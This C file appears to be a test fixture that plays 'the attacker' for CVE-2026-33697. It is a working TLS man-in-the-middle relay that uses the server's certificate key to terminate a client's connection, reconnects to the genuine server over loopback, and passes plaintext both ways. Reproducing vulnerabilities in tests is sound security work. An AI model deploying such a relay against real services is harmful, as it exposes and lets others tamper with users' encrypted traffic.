/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The attacker of CVE-2026-33697: holds the server's certificate key, ends
 * the client's TLS connection with it, opens its own to the genuine server,
 * and relays every byte of plaintext between the two.
 * relay PORT TARGET-PORT CERT KEY; prints "relaying on PORT" once it listens;
 * serves one connection.
 */
#include <arpa/inet.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/ssl.h>

static struct sockaddr_in
loopback(int port)
{
	return (struct sockaddr_in){ .sin_family = AF_INET,
		.sin_port = htons((uint16_t)port),
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
}

/* Waits for the one victim; prints the port, which 0 leaves to the kernel. */
static int
accept_one(int port)
{
	struct sockaddr_in a = loopback(port);
	socklen_t n = sizeof(a);
	int s = socket(AF_INET, SOCK_STREAM, 0), on = 1;

	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (s == -1 || bind(s, (struct sockaddr *)&a, sizeof(a)) != 0 ||
	    listen(s, 1) != 0 || getsockname(s, (struct sockaddr *)&a, &n) != 0)
		return -1;
	printf("relaying on %d\n", ntohs(a.sin_port));
	fflush(stdout);
	return accept(s, NULL, NULL);
}

static int
connect_to(int port)
{
	struct sockaddr_in a = loopback(port);
	int s = socket(AF_INET, SOCK_STREAM, 0);

	if (s == -1 || connect(s, (struct sockaddr *)&a, sizeof(a)) != 0)
		return -1;
	return s;
}

static int
select_alpn(SSL *ssl, const unsigned char **out, unsigned char *out_n,
    const unsigned char *in, unsigned int in_n, void *arg)
{
	(void)ssl, (void)arg;
	if (in_n < 7 || in[0] > in_n - 1)
		return SSL_TLSEXT_ERR_ALERT_FATAL;
	*out = in + 1;
	*out_n = in[0];
	return SSL_TLSEXT_ERR_OK;
}

static SSL *
victim_side(int fd, const char *cert, const char *key)
{
	SSL_CTX *c = SSL_CTX_new(TLS_server_method());
	SSL *ssl;

	SSL_CTX_set_num_tickets(c, 0);
	SSL_CTX_set_alpn_select_cb(c, select_alpn, NULL);
	if (SSL_CTX_use_certificate_chain_file(c, cert) != 1 ||
	    SSL_CTX_use_PrivateKey_file(c, key, SSL_FILETYPE_PEM) != 1)
		return NULL;
	ssl = SSL_new(c);
	SSL_set_fd(ssl, fd);
	return SSL_accept(ssl) == 1 ? ssl : NULL;
}

static SSL *
genuine_side(int fd)
{
	SSL_CTX *c = SSL_CTX_new(TLS_client_method());
	SSL *ssl = SSL_new(c);

	SSL_set_alpn_protos(ssl, (const unsigned char *)"\006seal/1", 7);
	SSL_set_fd(ssl, fd);
	return SSL_connect(ssl) == 1 ? ssl : NULL;
}

/* Moves what has come; 0 at the end of either side. */
static int
pump(SSL *from, SSL *to)
{
	char buf[16384];
	int n = SSL_read(from, buf, sizeof(buf));

	return n > 0 && SSL_write(to, buf, n) == n;
}

static void
relay(SSL *a, SSL *b)
{
	struct pollfd p[2] = { { SSL_get_fd(a), POLLIN, 0 },
		{ SSL_get_fd(b), POLLIN, 0 } };

	while (
	    SSL_pending(a) > 0 || SSL_pending(b) > 0 || poll(p, 2, 30000) > 0) {
		if ((SSL_pending(a) > 0 || p[0].revents != 0) && !pump(a, b))
			break;
		if ((SSL_pending(b) > 0 || p[1].revents != 0) && !pump(b, a))
			break;
		p[0].revents = p[1].revents = 0;
	}
	SSL_shutdown(a);
	SSL_shutdown(b);
}

int
main(int argc, char **argv)
{
	SSL *victim, *genuine;
	int in, out;

	if (argc != 5) {
		fprintf(stderr, "relay PORT TARGET-PORT CERT KEY\n");
		return 1;
	}
	in = accept_one(atoi(argv[1]));
	out = connect_to(atoi(argv[2]));
	if (in == -1 || out == -1 ||
	    (victim = victim_side(in, argv[3], argv[4])) == NULL ||
	    (genuine = genuine_side(out)) == NULL) {
		ERR_print_errors_fp(stderr);
		return 1;
	}
	relay(victim, genuine);
	return 0;
}
